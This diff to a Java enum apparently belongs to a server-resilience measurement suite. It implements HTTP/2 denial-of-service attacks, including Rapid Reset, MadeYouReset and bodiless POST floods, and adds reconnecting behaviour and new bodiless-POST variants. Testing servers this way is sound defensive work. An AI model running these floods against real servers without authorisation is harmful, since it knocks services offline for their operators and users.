@@ -2,6 +2,7 @@ package io.github.http2wildfly.measure.attack;
 
 import io.github.http2wildfly.setting.Token;
 import io.netty.handler.codec.http2.Http2Exception;
+import io.netty.handler.codec.http2.Http2Headers;
 import io.netty.handler.codec.http2.Http2Settings;
 import java.io.IOException;
 import java.net.URI;
@@ -9,6 +10,7 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Optional;
 import java.util.concurrent.CopyOnWriteArrayList;
 import javax.net.ssl.SSLContext;
 
@@ -25,7 +27,7 @@ public enum Attack implements Token {
     RAPID_RESET("rapid reset", "CVE-2023-44487", 20_000, "requests") {
         @Override
         public Outcome against(Target target) throws IOException, InterruptedException {
-            return new Run(target, this).onOneConnection((connection, step) -> {
+            return new Run(target, this).onConnectionsInTurn((connection, step) -> {
                 connection.headers(stream(step), connection.get(target.largePath()), true);
                 connection.reset(stream(step));
             });
@@ -36,7 +38,7 @@ public enum Attack implements Token {
         @Override
         public Outcome against(Target target) throws IOException, InterruptedException {
             Run run = new Run(target, this);
-            return run.onOneConnection((connection, step) -> {
+            return run.onConnectionsInTurn((connection, step) -> {
                 if (step == 1) {
                     connection.headersToBeContinued(1, connection.get(target.smallPath()));
                 }
@@ -51,7 +53,7 @@ public enum Attack implements Token {
     MADE_YOU_RESET("MadeYouReset", "CVE-2025-8671", 20_000, "requests") {
         @Override
         public Outcome against(Target target) throws IOException, InterruptedException {
-            return new Run(target, this).onOneConnection((connection, step) -> {
+            return new Run(target, this).onConnectionsInTurn((connection, step) -> {
                 connection.headers(stream(step), connection.get(target.largePath()), true);
                 connection.windowUpdate(stream(step), 0);
             });
@@ -86,7 +88,7 @@ public enum Attack implements Token {
         @Override
         public Outcome against(Target target) throws IOException, InterruptedException {
             Run run = new Run(target, this);
-            return run.onOneConnection((connection, step) -> {
+            return run.onConnectionsInTurn((connection, step) -> {
                 if (step == 1) {
                     connection.headers(1, connection.post(target.smallPath()), false);
                 }
@@ -122,7 +124,7 @@ public enum Attack implements Token {
         public Outcome against(Target target) throws IOException, InterruptedException {
             Run run = new Run(target, this);
             int streams = 100;
-            return run.onOneConnection((connection, step) -> {
+            return run.onConnectionsInTurn((connection, step) -> {
                 if (step <= streams) {
                     connection.headers(stream(step), connection.get(target.smallPath()), true);
                 } else { // each stream made to depend on another, a new one each time
@@ -143,13 +145,28 @@ public enum Attack implements Token {
             return new Run(target, this).cancelledAtTheirHeaders();
         }
     },
-    /** Issue hop-2's second probe: 4 connections of 2,000 POSTs each declaring a 64 KiB body and sending none of it. */
+    /**
+     * Issue hop-2's second probe: 4 connections of 2,000 POSTs each declaring a 64 KiB body (the read ahead's size, and
+     * the balancer's buffering limit) and sending none of it.
+     */
     BODILESS_POSTS("bodiless POSTs", "hop-2", 8_000, "requests") {
         @Override
         public Outcome against(Target target) throws IOException, InterruptedException {
-            return new Run(target, this).heldOpen(4, new Http2Settings(), (connection, step) -> connection.headers(stream(step),
-                    connection.post(target.smallPath()).set("content-length", "65536"), false), (connection, streams) -> {
-                    });
+            return new Run(target, this).bodiless(Optional.of(65_536L));
+        }
+    },
+    /** The same family a byte past every limit at 64 KiB: 65,537 bytes declared (issue shield). */
+    BODILESS_POSTS_PAST_THE_LIMIT("bodiless POSTs, a byte past 64 KiB", "shield", 8_000, "requests") {
+        @Override
+        public Outcome against(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).bodiless(Optional.of(65_537L));
+        }
+    },
+    /** The same family without a content-length: a body of no declared size, never sent (issue shield). */
+    BODILESS_POSTS_UNDECLARED("bodiless POSTs, no length declared", "shield", 8_000, "requests") {
+        @Override
+        public Outcome against(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).bodiless(Optional.empty());
         }
     },
     /**
@@ -167,7 +184,17 @@ public enum Attack implements Token {
      * Where an attack goes: a server's door 2 (HTTP/2 over TLS) whose certificate {@code tls} trusts, a small and a large
      * answer on it, and how long an attack may last.
      */
-    public record Target(SSLContext tls, URI door, String smallPath, String largePath, Duration time) {
+    public record Target(SSLContext tls, URI door, String smallPath, String largePath, Duration time, boolean reconnects) {
+
+        /** The suite's target: an attack ended by the server reconnects and goes on, as an attacker's would. */
+        public Target(SSLContext tls, URI door, String smallPath, String largePath, Duration time) {
+            this(tls, door, smallPath, largePath, time, true);
+        }
+
+        /** The same, where an attack ends once the server has ended its connection (the server check's, sent gently). */
+        public Target once() {
+            return new Target(tls, door, smallPath, largePath, time, false);
+        }
     }
 
     /** One step of an attack on a connection (a request, a frame), numbered from 1. */
@@ -258,21 +285,39 @@ public enum Attack implements Token {
             return connection;
         }
 
-        /** Steps on one connection until all are sent, the server closes it, or the time is up. */
-        Outcome onOneConnection(Step step) throws IOException, InterruptedException {
-            RawHttp2 connection = open(new Http2Settings());
+        /**
+         * Steps on a connection until all are sent or the time is up; a connection the server closes or ends with a GOAWAY
+         * is followed by a new one, its steps numbered from 1 again (an attacker reconnects), until the server takes none,
+         * where the target {@linkplain Target#reconnects() reconnects}.
+         */
+        Outcome onConnectionsInTurn(Step step) throws IOException, InterruptedException {
             long sent = 0;
-            try {
-                for (int i = 1; i <= scale && inTime(); i++) {
-                    step.send(connection, i);
-                    if (i % FLUSH_EVERY == 0 && !connection.flush() || connection.closedByTheServer() || connection.goAwayError() >= 0) {
-                        break;
-                    }
-                    sent = i;
+            while (sent < scale && inTime()) {
+                RawHttp2 connection;
+                try {
+                    connection = open(new Http2Settings());
+                } catch (IOException refused) {
+                    break; // the server takes no new connection: the attack ends here
                 }
-                connection.flush();
-            } catch (IOException | Http2Exception refused) {
-                // the server's close, seen by a write (or by the codec, which refuses a frame once the connection is gone)
+                try {
+                    for (int i = 1; sent < scale && inTime(); i++) {
+                        step.send(connection, i);
+                        sent++;
+                        if (i % FLUSH_EVERY == 0 && !connection.flush() || connection.closedByTheServer() || connection.goAwayError() >= 0) {
+                            break;
+                        }
+                    }
+                    connection.flush();
+                } catch (IOException | Http2Exception refused) {
+                    // the server's close, seen by a write (or by the codec, which refuses a frame once the connection is gone)
+                }
+                if (sent >= scale || !inTime() || !target.reconnects()) {
+                    break;
+                }
+                connection.awaitGoAwayOrClose(LAST_WORD);
+                if (!connection.closedByTheServer() && connection.goAwayError() < 0) {
+                    break; // it stopped taking frames without a word: nothing to reconnect from
+                }
             }
             return end(sent);
         }
@@ -325,6 +370,16 @@ public enum Attack implements Token {
                 // as above
             }
             return end(sent);
+        }
+
+        /** POSTs over 4 connections, each declaring {@code length} bytes (or nothing) and sending none of it, held open. */
+        Outcome bodiless(Optional<Long> length) throws IOException, InterruptedException {
+            return heldOpen(4, new Http2Settings(), (connection, step) -> {
+                Http2Headers post = connection.post(target.smallPath());
+                length.ifPresent(bytes -> post.set("content-length", Long.toString(bytes)));
+                connection.headers(stream(step), post, false);
+            }, (connection, streams) -> {
+            });
         }
 
         /**
